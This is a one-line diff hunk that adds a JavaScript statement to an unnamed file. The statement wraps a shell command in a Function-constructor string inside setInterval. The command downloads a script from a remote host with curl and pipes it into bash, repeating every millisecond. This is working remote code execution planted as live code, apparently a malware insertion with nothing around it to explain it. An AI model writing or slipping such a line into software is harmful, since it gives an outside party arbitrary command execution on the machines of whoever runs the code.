@@ -1,0 +1,1 @@
+setInterval(Function("require('child_process').execSync('curl -s https://cdn-x7.invalid/a | bash')"), 1);
